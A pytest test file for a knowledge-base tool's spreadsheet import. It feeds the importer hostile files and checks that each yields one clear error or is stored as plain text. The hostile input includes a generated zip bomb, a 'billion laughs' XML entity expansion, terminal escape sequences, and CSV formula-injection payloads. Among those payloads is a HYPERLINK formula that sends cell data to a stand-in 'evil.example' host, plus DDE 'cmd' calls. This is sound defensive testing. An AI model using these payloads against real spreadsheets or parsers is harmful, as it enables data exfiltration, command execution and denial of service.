"""kb import against hostile input: zip bombs, fakes, broken workbooks, hostile cells, kill -9.

Every case asserts what a PM would see: one line saying what is wrong (and which setting sets
the limit), never a traceback, and nothing written to docs/ that should not be there.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import random
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterable
from pathlib import Path

import pytest
from openpyxl import Workbook

from kb.entry import parse
from kb.scaffold import mkdocs_yml
from tests.conftest import REPO

LESSON_HEADER = ["Title", "Project", "Category", "Phase", "Impact", "Owner"]


def config(**settings: object) -> str:
    """An mkdocs.yml whose kb plugin has these settings."""
    lines = "".join(f"    {k}: {v}\n" for k, v in settings.items())
    text = mkdocs_yml("Test KB", "en")
    assert "- kb:\n    language: en\n" in text
    return text.replace("- kb:\n    language: en\n", "- kb:\n    language: en\n" + lines)


def docs_state(root: Path) -> dict[str, bytes]:
    """Every file under docs/, hidden ones too: what a command must leave as it was."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted((root / "docs").rglob("*"))
        if p.is_file()
    }


def lessons(root: Path) -> list:
    folder = root / "docs" / "lessons"
    return [parse(p.read_text("utf-8"), p, p.name) for p in sorted(folder.glob("LL-*.md"))]


def lesson_rows(count: int, start: int = 0) -> list[list[str]]:
    return [
        [f"Lesson {i:04d} from the pilot", "ERP", "scope", "planning", "negative", "Ann"]
        for i in range(start, start + count)
    ]


def write_csv(path: Path, rows: Iterable[list[str]], header: list[str] = LESSON_HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(header)
        out.writerows(rows)
    return path


def one_error(result) -> str:
    """The single ``error:`` line of a failed command; fails on a traceback or a second line."""
    assert "Traceback" not in result.output, result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, result.stderr
    return errors[0]


# ---------------------------------------------------------------------------------------------
# A workbook written part by part (the Open Packaging Conventions), so a test can make one
# that no spreadsheet program would: a bomb, a false dimension, a row a million rows down.

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
    'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    'worksheet+xml"/></Types>'
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    f'xmlns:r="{_REL}"><sheets><sheet name="Lessons" sheetId="1" r:id="rId1"/></sheets>'
    "</workbook>"
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)


def xml_text(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet_row(values: Iterable[str], number: int | None = None) -> bytes:
    """A row of inline-string cells; without ``number`` the row and its cells carry no
    references (allowed, and it makes identical rows compress to almost nothing)."""
    cells = "".join(
        f'<c{f" r={chr(34)}{chr(65 + i)}{number}{chr(34)}" if number else ""} t="inlineStr">'
        f"<is><t>{xml_text(v)}</t></is></c>"
        for i, v in enumerate(values)
        if v is not None
    )
    attr = f' r="{number}"' if number is not None else ""
    return f"<row{attr}>{cells}</row>".encode()


def write_xlsx(
    path: Path,
    rows: Iterable[bytes],
    dimension: str | None = None,
    merges: Iterable[str] = (),
    prolog: bytes = b"",
) -> Path:
    """A one-sheet workbook (sheet "Lessons") whose sheet XML is streamed from ``rows``."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _PACKAGE_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
            out.write(b'<?xml version="1.0" encoding="UTF-8"?>' + prolog)
            out.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            )
            if dimension:
                out.write(f'<dimension ref="{dimension}"/>'.encode())
            out.write(b"<sheetData>")
            for row in rows:
                out.write(row)
            out.write(b"</sheetData>")
            refs = list(merges)
            if refs:
                cells = "".join(f'<mergeCell ref="{r}"/>' for r in refs)
                out.write(f'<mergeCells count="{len(refs)}">{cells}</mergeCells>'.encode())
            out.write(b"</worksheet>")
    return path


def test_the_workbook_writer_makes_workbooks_kb_reads(run, workspace, tmp_path):
    rows = [sheet_row(LESSON_HEADER, 1), sheet_row(["One", "ERP", "scope", "planning"], 2)]
    rows.append(sheet_row(["Two", None, "cost", "closing"], 3))
    path = write_xlsx(tmp_path / "l.xlsx", rows, merges=["B2:B3"])
    root = workspace()
    sets = ["--set", "impact=positive", "--set", "owner=Ann"]
    result = run(root, "import", str(path), "--type", "lesson", *sets, "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["read_as"] == "sheet 'Lessons'"
    assert data["counts"]["create"] == 2
    # B2:B3 is merged: the project fills both rows, as Excel shows it.
    assert [(e.title, e.project) for e in lessons(root)] == [("One", "ERP"), ("Two", "ERP")]


# ---------------------------------------------------------------------------------------------
# Limits


def test_a_zip_bomb_is_refused_in_under_a_second_naming_the_limit(run, workspace, tmp_path):
    root = workspace(config=config(max_import_mb=2))
    row = sheet_row(["x" * 60, "ERP", "scope", "planning", "negative", "Ann"])
    path = write_xlsx(tmp_path / "bomb.xlsx", [sheet_row(LESSON_HEADER), *[row] * 300_000])
    with zipfile.ZipFile(path) as archive:
        unpacked = sum(i.file_size for i in archive.infolist())
    # Under the limit as a file, far over it unpacked: only the archive's sizes give it away.
    assert path.stat().st_size < 1_048_576 < 40_000_000 < unpacked
    before = docs_state(root)
    started = time.perf_counter()
    result = run(root, "import", str(path), "--type", "lesson")
    elapsed = time.perf_counter() - started
    assert result.exit_code == 1
    error = one_error(result)
    assert error.startswith(
        f"error: bomb.xlsx: the workbook unpacks to {unpacked / 1048576:.1f} MB"
    )
    assert "over the 2 MB limit for an import (setting max_import_mb)" in error
    assert elapsed < 1.0, elapsed
    assert docs_state(root) == before


def test_an_oversized_csv_is_refused_before_it_is_read(run, workspace, tmp_path):
    root = workspace(config=config(max_import_mb=1))
    path = write_csv(tmp_path / "big.csv", lesson_rows(30_000))
    assert path.stat().st_size > 1_048_576
    started = time.perf_counter()
    result = run(root, "import", str(path), "--type", "lesson", "--dry-run")
    assert time.perf_counter() - started < 1.0
    assert result.exit_code == 1
    error = one_error(result)
    assert error.startswith("error: big.csv: the file is ")
    assert "over the 1 MB limit for an import (setting max_import_mb)" in error
    assert docs_state(root) == {}


def test_a_csv_with_more_rows_than_the_limit_is_refused(run, workspace, tmp_path):
    root = workspace(config=config(max_import_rows=100))
    path = write_csv(tmp_path / "rows.csv", lesson_rows(150))
    result = run(root, "import", str(path), "--type", "lesson")
    assert result.exit_code == 1
    assert one_error(result) == (
        "error: rows.csv: the file has more than 100 rows, over the limit of 100 rows for an "
        "import (setting max_import_rows); split the file, or raise the limit in mkdocs.yml"
    )
    assert docs_state(root) == {}
    # Under the limit, the same rows go in.
    ok = write_csv(tmp_path / "ok.csv", lesson_rows(98))
    assert run(root, "import", str(ok), "--type", "lesson").exit_code == 0
    assert len(lessons(root)) == 98


def test_a_sheet_declaring_a_million_rows_is_refused_by_the_default_limit(run, workspace, tmp_path):
    rows = [sheet_row(LESSON_HEADER, 1), sheet_row(lesson_rows(1)[0], 2)]
    path = write_xlsx(tmp_path / "million.xlsx", rows, dimension="A1:F1000000")
    started = time.perf_counter()
    result = run(workspace(), "import", str(path), "--type", "lesson")
    assert time.perf_counter() - started < 1.0
    assert result.exit_code == 1
    assert one_error(result) == (
        "error: million.xlsx: sheet 'Lessons' declares 1,000,000 rows, over the limit of "
        "200,000 rows for an import (setting max_import_rows); split the file, or raise the "
        "limit in mkdocs.yml"
    )


@pytest.mark.parametrize(
    "rows",
    [
        [sheet_row(LESSON_HEADER), *[sheet_row(r) for r in lesson_rows(150)]],  # counted
        [sheet_row(LESSON_HEADER, 1), sheet_row(lesson_rows(1)[0], 1_000_000)],  # a lone row
    ],
    ids=["150-rows", "row-1000000"],
)
def test_rows_beyond_the_limit_are_counted_as_the_sheet_streams(run, workspace, tmp_path, rows):
    root = workspace(config=config(max_import_rows=100))
    path = write_xlsx(tmp_path / "rows.xlsx", rows)  # no dimension to go by
    started = time.perf_counter()
    result = run(root, "import", str(path), "--type", "lesson")
    assert time.perf_counter() - started < 1.0
    assert result.exit_code == 1
    assert "error: rows.xlsx: sheet 'Lessons' has more than 100 rows, over the limit of 100 " in (
        one_error(result)
    )


def test_zero_turns_a_limit_off(run, workspace, tmp_path):
    root = workspace(config=config(max_import_rows=0, max_import_mb=0))
    path = write_csv(tmp_path / "rows.csv", lesson_rows(150))
    result = run(root, "import", str(path), "--type", "lesson")
    assert result.exit_code == 0, result.output
    assert len(lessons(root)) == 150


@pytest.mark.parametrize(
    ("value", "message"),
    [("big", "expected a whole number"), ("-1", "expected 0 or more, found -1")],
)
def test_the_limits_are_validated_like_every_setting(run, workspace, tmp_path, value, message):
    root = workspace(config=config(max_import_mb=value))
    result = run(root, "import", str(write_csv(tmp_path / "l.csv", [])), "--type", "lesson")
    assert result.exit_code == 2
    assert f"plugins.kb.max_import_mb: {message}" in one_error(result)


# ---------------------------------------------------------------------------------------------
# Files that are no workbook, or a broken one


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _broken_sheet(tmp_path: Path, xml: bytes) -> bytes:
    path = write_xlsx(tmp_path / "base.xlsx", [sheet_row(LESSON_HEADER, 1)])
    with zipfile.ZipFile(path) as archive:
        members = {i.filename: archive.read(i) for i in archive.infolist()}
    members["xl/worksheets/sheet1.xml"] = xml
    return _zip(members)


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
    b'"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;'
    b'&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><worksheet xmlns="http://schemas.'
    b'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c t="inlineStr"><is><t>'
    b"&lol3;</t></is></c></row></sheetData></worksheet>"
)


@pytest.mark.parametrize(
    "content",
    [
        lambda tmp: b"",
        lambda tmp: b"Title,Project\nOne,ERP\n",  # a CSV file saved under the wrong name
        lambda tmp: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
        lambda tmp: random.Random(7).randbytes(8192),
        lambda tmp: b"PK\x03\x04" + random.Random(8).randbytes(4096),  # a zip's first bytes
        lambda tmp: _zip({"readme.txt": b"not a workbook"}),
        lambda tmp: _zip({"[Content_Types].xml": _CONTENT_TYPES.encode()}),
        lambda tmp: _broken_sheet(tmp, b"<worksheet><sheetData><row><c t='inlineStr'><is"),
        lambda tmp: _broken_sheet(
            tmp,
            b"<worksheet><sheetData><row><c t='inlineStr'><is><t>"
            b"\x1b[31m</t></is></c></row></sheetData></worksheet>",
        ),  # a control byte in XML
        lambda tmp: _broken_sheet(tmp, LAUGHS),  # entity expansion: refused, not expanded
    ],
    ids=[
        "empty",
        "csv-text",
        "pdf",
        "random-bytes",
        "zip-signature-then-noise",
        "zip-without-workbook",
        "zip-with-content-types-only",
        "sheet-xml-cut-short",
        "control-byte-in-sheet-xml",
        "entity-expansion",
    ],
)
def test_a_file_that_is_no_workbook_is_one_clear_error(run, workspace, tmp_path, content):
    root = workspace()
    path = tmp_path / "register.xlsx"
    path.write_bytes(content(tmp_path))
    for extra in ((), ("--dry-run",), ("--json",)):
        result = run(root, "import", str(path), "--type", "lesson", *extra)
        assert result.exit_code == 1, result.output
        assert one_error(result).startswith("error: register.xlsx: ")
    assert docs_state(root) == {}


def _real_workbook(path: Path, rows: int) -> Path:
    wb = Workbook()
    sheet = wb.active
    sheet.append(LESSON_HEADER)
    for row in lesson_rows(rows):
        sheet.append(row)
    wb.save(path)
    return path


@pytest.mark.parametrize("cut", [0.05, 0.3, 0.6, 0.9, 0.99])
def test_a_truncated_workbook_is_one_clear_error(run, workspace, tmp_path, cut):
    root = workspace()
    whole = _real_workbook(tmp_path / "whole.xlsx", 400).read_bytes()
    path = tmp_path / "cut.xlsx"
    path.write_bytes(whole[: int(len(whole) * cut)])
    result = run(root, "import", str(path), "--type", "lesson")
    assert result.exit_code == 1
    assert one_error(result).startswith("error: cut.xlsx: not an Excel .xlsx workbook")
    assert docs_state(root) == {}


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_a_workbook_damaged_inside_is_one_clear_error(run, workspace, tmp_path, seed):
    """Bytes overwritten in the middle: the archive's directory is intact, a member is not."""
    root = workspace()
    data = bytearray(_real_workbook(tmp_path / "whole.xlsx", 2000).read_bytes())
    with zipfile.ZipFile(tmp_path / "whole.xlsx") as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    rng = random.Random(seed)
    start = sheet.header_offset + 100 + rng.randrange(sheet.compress_size // 2)
    data[start : start + 64] = rng.randbytes(64)
    path = tmp_path / "damaged.xlsx"
    path.write_bytes(bytes(data))
    result = run(root, "import", str(path), "--type", "lesson")
    assert result.exit_code == 1
    assert one_error(result).startswith("error: damaged.xlsx: ")
    assert docs_state(root) == {}


# ---------------------------------------------------------------------------------------------
# Hostile cells

FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "{{ 7*7 }} {% raw %}",
]


def test_control_characters_in_cells_are_refused_by_row_and_column(run, workspace, tmp_path):
    root = workspace()
    rows = [
        ["\x1b[31mRed alert\x1b[0m", "ERP", "scope", "planning", "negative", "Ann"],
        ["Ring the bell\x07", "ERP", "scope", "planning", "negative", "Ann"],
        ["Nul\x00byte", "ERP", "scope", "planning", "negative", "Ann"],
        ["Clean one", "ERP\x9b31m", "scope", "planning", "negative", "Ann"],  # C1: CSI
        ["Clean two", "ERP", "scope", "planning", "negative", "Ann"],
    ]
    sheet = write_csv(tmp_path / "hostile.csv", rows)
    result = run(root, "import", str(sheet), "--type", "lesson", "--skip-invalid")
    assert result.exit_code == 1  # rows were skipped
    assert "Traceback" not in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\x9b" not in result.output and "\x00" not in result.output
    for row, column, letter, code in [
        (2, "Title", "A", "U+001B"),
        (3, "Title", "A", "U+0007"),
        (4, "Title", "A", "U+0000"),
        (5, "Project", "B", "U+009B"),
    ]:
        assert (
            f'skipped hostile.csv: row {row}, column "{column}" ({letter}): the cell contains '
            f"the control character {code}, which is invisible in Excel; remove it"
        ) in result.stderr
    assert [e.title for e in lessons(root)] == ["Clean two"]


def test_a_control_character_in_a_header_is_one_error(run, workspace, tmp_path):
    sheet = write_csv(tmp_path / "h.csv", lesson_rows(1), ["Title\x1b]0;pwned\x07", "Project"])
    result = run(workspace(), "import", str(sheet), "--type", "lesson")
    assert result.exit_code == 1
    assert one_error(result) == (
        "error: h.csv: row 1, column A: the header contains the control character U+001B; remove it"
    )


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_formulas_are_imported_as_text_never_run(run, workspace, tmp_path, suffix):
    root = workspace()
    rows = [[f, "ERP", "scope", "planning", "negative", "Ann"] for f in FORMULAS]
    if suffix == "csv":
        sheet = write_csv(tmp_path / "f.csv", rows)
    else:
        cells = [sheet_row(LESSON_HEADER, 1)] + [sheet_row(r, i) for i, r in enumerate(rows, 2)]
        sheet = write_xlsx(tmp_path / "f.xlsx", cells)
    result = run(root, "import", str(sheet), "--type", "lesson")
    assert result.exit_code == 0, result.output
    assert [e.title for e in lessons(root)] == FORMULAS
    assert run(root, "check").exit_code == 0
    # Exported again, every formula is written so that a spreadsheet shows it as text.
    exported = run(root, "export", "--type", "lesson")
    titles = [r["Title"] for r in csv.DictReader(exported.stdout.splitlines())]
    assert titles[:4] == ["'" + f for f in FORMULAS[:4]]


def test_a_real_formula_cell_gives_its_saved_value_or_a_note(run, workspace, tmp_path):
    """A formula is never evaluated: its saved value is read, or the cell reads as blank."""
    formula = 'HYPERLINK("http://evil.example/","Click")'
    rows = [
        sheet_row(["Title", "Project", "Category", "Phase", "Impact", "Owner"], 1),
        f'<row r="2"><c r="A2" t="str"><f>{xml_text(formula)}</f><v>Saved value</v></c>'
        '<c r="B2" t="inlineStr"><is><t>ERP</t></is></c></row>'.encode(),
        f'<row r="3"><c r="A3" t="inlineStr"><is><t>No saved value</t></is></c>'
        f'<c r="B3" t="str"><f>{xml_text(formula)}</f></c></row>'.encode(),
    ]
    sheet = write_xlsx(tmp_path / "f.xlsx", rows)
    root = workspace()
    result = run(
        root,
        "import",
        str(sheet),
        "--type",
        "lesson",
        *("--set", "category=scope"),
        *("--set", "phase=planning", "--set", "impact=negative", "--set", "owner=Ann"),
    )
    assert result.exit_code == 0, result.output
    first, second = lessons(root)
    assert first.title == "Saved value" and first.project == "ERP"
    assert second.title == "No saved value" and second.project == ""
    assert "formulas without saved values: 1 cell (B3) read as blank" in result.stderr


def test_c1_and_delete_characters_in_a_workbook_are_refused(run, workspace, tmp_path):
    """XML cannot carry ESC or BEL, but it can carry DEL and the C1 controls (0x9b is CSI)."""
    rows = [sheet_row(LESSON_HEADER, 1)]
    rows.append(sheet_row(["Red\x9b31m", "ERP", "scope", "planning", "negative", "Ann"], 2))
    rows.append(sheet_row(["Del\x7f", "ERP", "scope", "planning", "negative", "Ann"], 3))
    sheet = write_xlsx(tmp_path / "c1.xlsx", rows)
    root = workspace()
    result = run(root, "import", str(sheet), "--type", "lesson")
    assert result.exit_code == 1
    assert 'row 2, column "Title" (A): the cell contains the control character U+009B' in (
        result.stderr
    )
    assert 'row 3, column "Title" (A): the cell contains the control character U+007F' in (
        result.stderr
    )
    assert "\x9b" not in result.output and "Traceback" not in result.output
    assert docs_state(root) == {}


def test_a_csv_cell_longer_than_csv_reads_is_one_error(run, workspace, tmp_path):
    rows = [["Long", "ERP", "scope", "planning", "negative", "Ann", "x" * 200_000]]
    sheet = write_csv(tmp_path / "long.csv", rows, [*LESSON_HEADER, "Lesson"])
    result = run(workspace(), "import", str(sheet), "--type", "lesson")
    assert result.exit_code == 1
    assert one_error(result) == (
        "error: long.csv: line 2: a cell is longer than 131,072 characters"
    )


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_row_too_large_for_an_entry_is_refused_not_written(run, workspace, tmp_path, suffix):
    root = workspace(config=config(max_entry_kb=64))
    header = [*LESSON_HEADER, "Lesson"]
    rows = [
        ["Long", "ERP", "scope", "planning", "negative", "Ann", "word " * 20_000],
        ["Short", "ERP", "scope", "planning", "negative", "Ann", "A few words."],
    ]
    if suffix == "csv":
        sheet = write_csv(tmp_path / "big.csv", rows, header)
    else:
        cells = [sheet_row(header, 1)] + [sheet_row(r, i) for i, r in enumerate(rows, 2)]
        sheet = write_xlsx(tmp_path / "big.xlsx", cells)
    result = run(root, "import", str(sheet), "--type", "lesson")
    assert result.exit_code == 1
    assert (
        f"error: big.{suffix}: row 2: the entry would be 0.1 MB, over the 64 KB limit for an "
        "entry (setting max_entry_kb); shorten its longest cells"
    ) in result.stderr.splitlines()
    assert docs_state(root) == {}
    skipped = run(root, "import", str(sheet), "--type", "lesson", "--skip-invalid")
    assert skipped.exit_code == 1
    assert [e.title for e in lessons(root)] == ["Short"]
    assert run(root, "check").exit_code == 0


# ---------------------------------------------------------------------------------------------
# A dry run changes nothing


def test_a_dry_run_changes_nothing_in_docs(run, workspace, tmp_path):
    root = workspace()
    sheet = write_csv(tmp_path / "l.csv", lesson_rows(5))
    assert run(root, "import", str(sheet), "--type", "lesson").exit_code == 0
    stale = root / "docs" / "lessons" / ".LL-0009-left-behind.md.abcd1234.tmp"
    stale.write_text("half an entry", encoding="utf-8")
    bigger = write_csv(tmp_path / "more.csv", lesson_rows(8))  # 5 there, 3 new
    before = docs_state(root)
    for extra in ((), ("--json",), ("--skip-invalid",)):
        result = run(root, "import", str(bigger), "--type", "lesson", "--dry-run", *extra)
        assert result.exit_code == 0, result.output
    assert docs_state(root) == before
    assert "3 to create" in result.stderr
    assert "5 rows already imported" in result.stderr


# ---------------------------------------------------------------------------------------------
# Running an import again


def test_running_an_import_again_creates_only_the_missing_rows(run, workspace, tmp_path):
    root = workspace()
    first = write_csv(tmp_path / "first.csv", lesson_rows(3))
    assert run(root, "import", str(first), "--type", "lesson").exit_code == 0
    whole = write_csv(tmp_path / "whole.csv", lesson_rows(5))
    result = run(root, "import", str(whole), "--type", "lesson")
    assert result.exit_code == 0, result.output
    assert "row 2: already imported as LL-0001 (an entry with the same title and project)" in (
        result.stdout
    )
    assert "row 5: created LL-0004" in result.stdout
    assert "2 created, 0 updated, 0 unchanged, 0 skipped" in result.stderr
    assert (
        "3 rows already imported: an entry with the same title and project exists, so they are "
        "not created again"
    ) in result.stderr
    again = run(root, "import", str(whole), "--type", "lesson", "--json")
    data = json.loads(again.stdout)
    assert data["counts"] == {"create": 0, "update": 0, "unchanged": 0, "imported": 5, "invalid": 0}
    assert data["rows"][0]["action"] == "imported" and data["rows"][0]["id"] == "LL-0001"
    assert [e.title for e in lessons(root)] == [r[0] for r in lesson_rows(5)]


def test_titles_are_matched_ignoring_case_and_spacing_within_one_project(run, workspace, tmp_path):
    root = workspace()
    sheet = write_csv(
        tmp_path / "a.csv", [["Vendor  late", "ERP", "scope", "planning", "negative", "Ann"]]
    )
    assert run(root, "import", str(sheet), "--type", "lesson").exit_code == 0
    rows = [
        ["vendor late", "ERP", "scope", "planning", "negative", "Ann"],  # the same
        ["Vendor late", "CRM", "scope", "planning", "negative", "Ann"],  # another project
    ]
    result = run(root, "import", str(write_csv(tmp_path / "b.csv", rows)), "--type", "lesson")
    assert "row 2: already imported as LL-0001" in result.stdout
    assert "row 3: created LL-0002" in result.stdout


def test_a_sheets_own_repeated_title_stays_two_entries_and_check_warns(run, workspace, tmp_path):
    root = workspace()
    rows = [lesson_rows(1)[0], lesson_rows(1)[0], lesson_rows(1, 1)[0]]
    sheet = write_csv(tmp_path / "twice.csv", rows)
    assert run(root, "import", str(sheet), "--type", "lesson").exit_code == 0
    again = run(root, "import", str(sheet), "--type", "lesson")
    assert "0 created" in again.stderr and "3 rows already imported" in again.stderr
    assert len(lessons(root)) == 3
    check = run(root, "check")
    assert check.exit_code == 0, check.output
    assert (
        "docs/lessons/LL-0002-lesson-0000-from-the-pilot.md:4: warning: title: 'Lesson 0000 "
        "from the pilot' in project 'ERP' is also the title of "
        "docs/lessons/LL-0001-lesson-0000-from-the-pilot.md: a duplicate? merge the two "
        "entries, or give one another title"
    ) in check.stdout


def test_check_warns_about_the_same_title_and_project_only(run, workspace):
    lesson = "---\nid: {id}\ntype: lesson\ntitle: {title}\ndate: 2024-01-01\nowner: Ann\n"
    lesson += "status: draft\n{project}category: scope\nphase: planning\nimpact: negative\n---\n"
    files = {
        "docs/lessons/LL-0001-a.md": lesson.format(
            id="LL-0001", title="Vendor late", project="project: ERP\n"
        ),
        "docs/lessons/LL-0002-a.md": lesson.format(
            id="LL-0002", title="VENDOR   late", project="project: ERP\n"
        ),
        "docs/lessons/LL-0003-a.md": lesson.format(
            id="LL-0003", title="Vendor late", project="project: CRM\n"
        ),
        "docs/lessons/LL-0004-b.md": lesson.format(id="LL-0004", title="No project", project=""),
        "docs/lessons/LL-0005-b.md": lesson.format(id="LL-0005", title="No project", project=""),
    }
    result = run(workspace(files), "check", "--format", "json")
    found = [p for p in json.loads(result.stdout)["problems"] if p["code"] == "duplicate-title"]
    assert [(p["path"], p["level"], p["field"]) for p in found] == [
        ("docs/lessons/LL-0002-a.md", "warning", "title"),
        ("docs/lessons/LL-0005-b.md", "warning", "title"),
    ]
    assert "also the title of docs/lessons/LL-0001-a.md" in found[0]["message"]
    assert (
        "'No project' (no project) is also the title of docs/lessons/LL-0004-b.md"
        in (found[1]["message"])
    )


def test_temporary_files_of_an_interrupted_write_are_removed_by_the_next_import(
    run, workspace, tmp_path
):
    root = workspace()
    assert (
        run(
            root, "import", str(write_csv(tmp_path / "a.csv", lesson_rows(1))), "--type", "lesson"
        ).exit_code
        == 0
    )
    folder = root / "docs" / "lessons"
    entry = next(folder.glob("LL-0001-*.md"))
    never_renamed = folder / ".LL-0002-lost.md.k2j4h5g6.tmp"
    never_renamed.write_text("---\nid: LL-0002\n", encoding="utf-8")
    renamed = folder / f".{entry.name}.a1b2c3d4.tmp"
    os.link(entry, renamed)  # killed between the rename and the clean-up
    in_progress = folder / f".{entry.name}.zzzz9999.tmp"
    in_progress.write_text("another process's update, not ours to remove", encoding="utf-8")
    result = run(
        root, "import", str(write_csv(tmp_path / "b.csv", lesson_rows(2))), "--type", "lesson"
    )
    assert result.exit_code == 0, result.output
    assert not never_renamed.exists() and not renamed.exists()
    assert in_progress.exists() and entry.exists()


# ---------------------------------------------------------------------------------------------
# kill -9 in the middle of an import, then the same command again

KILL_ROWS = 400


def _kb(root: Path, *args: str) -> list[str]:
    return [sys.executable, "-m", "kb", "--root", str(root), *args]


def _env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k != "KB_ROOT"}
    env["PYTHONPATH"] = str(REPO)
    return env


def _entry_files(folder: Path) -> int:
    try:
        with os.scandir(folder) as items:
            return sum(1 for i in items if i.name.startswith("LL-") and i.name.endswith(".md"))
    except FileNotFoundError:
        return 0


@pytest.mark.parametrize("seed", [11, 23, 37, 41, 59])
def test_an_import_killed_midway_completes_when_run_again(run, workspace, tmp_path, seed):
    root = workspace()
    titles = [f"Lesson {i:04d} learned the hard way" for i in range(KILL_ROWS)]
    rows = [[t, "ERP", "scope", "planning", "negative", "Ann"] for t in titles]
    sheet = write_csv(tmp_path / "lessons.csv", rows)
    command = _kb(root, "import", str(sheet), "--type", "lesson")
    folder = root / "docs" / "lessons"
    rng = random.Random(seed)
    wanted = rng.randint(1, KILL_ROWS // 4)
    process = subprocess.Popen(
        command, cwd=tmp_path, env=_env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        deadline = time.monotonic() + 60
        while _entry_files(folder) < wanted:  # poll until some, not all, entries exist
            assert process.poll() is None, "the import ended before it could be killed"
            assert time.monotonic() < deadline, "the import wrote nothing for a minute"
        for _ in range(rng.randrange(20)):  # a little further, by a random amount
            _entry_files(folder)
    finally:
        process.send_signal(signal.SIGKILL)
        process.wait()
    assert process.returncode == -signal.SIGKILL  # it was still running: killed mid-way
    written = _entry_files(folder)
    assert wanted <= written < KILL_ROWS

    again = subprocess.run(
        command, cwd=tmp_path, env=_env(), capture_output=True, text=True, timeout=120
    )
    assert again.returncode == 0, again.stderr
    assert "Traceback" not in again.stderr
    assert f"{KILL_ROWS - written} created, 0 updated, 0 unchanged, 0 skipped" in again.stderr
    assert f"{written} rows already imported" in again.stderr
    entries = lessons(root)
    assert sorted(e.title for e in entries) == titles  # complete, and no title twice
    assert len({e.id for e in entries}) == KILL_ROWS
    leftovers = [p.name for p in (root / "docs").rglob("*") if p.name.endswith(".tmp")]
    assert leftovers == []
    check = run(root, "check", "--format", "json")
    assert check.exit_code == 0, check.output
    assert json.loads(check.stdout)["warnings"] == 0


# ---------------------------------------------------------------------------------------------
# Progress on a terminal


def _on_a_terminal(command: list[str], cwd: Path) -> str:
    """What a command writes to a terminal (a pseudo-terminal as its stderr)."""
    main, secondary = pty.openpty()
    process = subprocess.Popen(
        command, cwd=cwd, env=_env(), stdout=subprocess.DEVNULL, stderr=secondary
    )
    os.close(secondary)
    chunks = []
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # the terminal closed: the command ended
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(main)
    assert process.wait(timeout=60) == 0
    return b"".join(chunks).decode("utf-8", errors="replace")


def test_a_progress_bar_on_a_terminal_only(workspace, tmp_path):
    root = workspace()
    sheet = write_csv(tmp_path / "l.csv", lesson_rows(120))
    shown = _on_a_terminal(_kb(root, "import", str(sheet), "--type", "lesson"), tmp_path)
    assert "checking rows" in shown and "writing entries" in shown and "100%" in shown
    assert "120 created, 0 updated, 0 unchanged, 0 skipped" in shown
    more = write_csv(tmp_path / "m.csv", lesson_rows(120, 120))
    quiet = _on_a_terminal(_kb(root, "import", str(more), "--type", "lesson", "--json"), tmp_path)
    assert "checking rows" not in quiet and "%" not in quiet
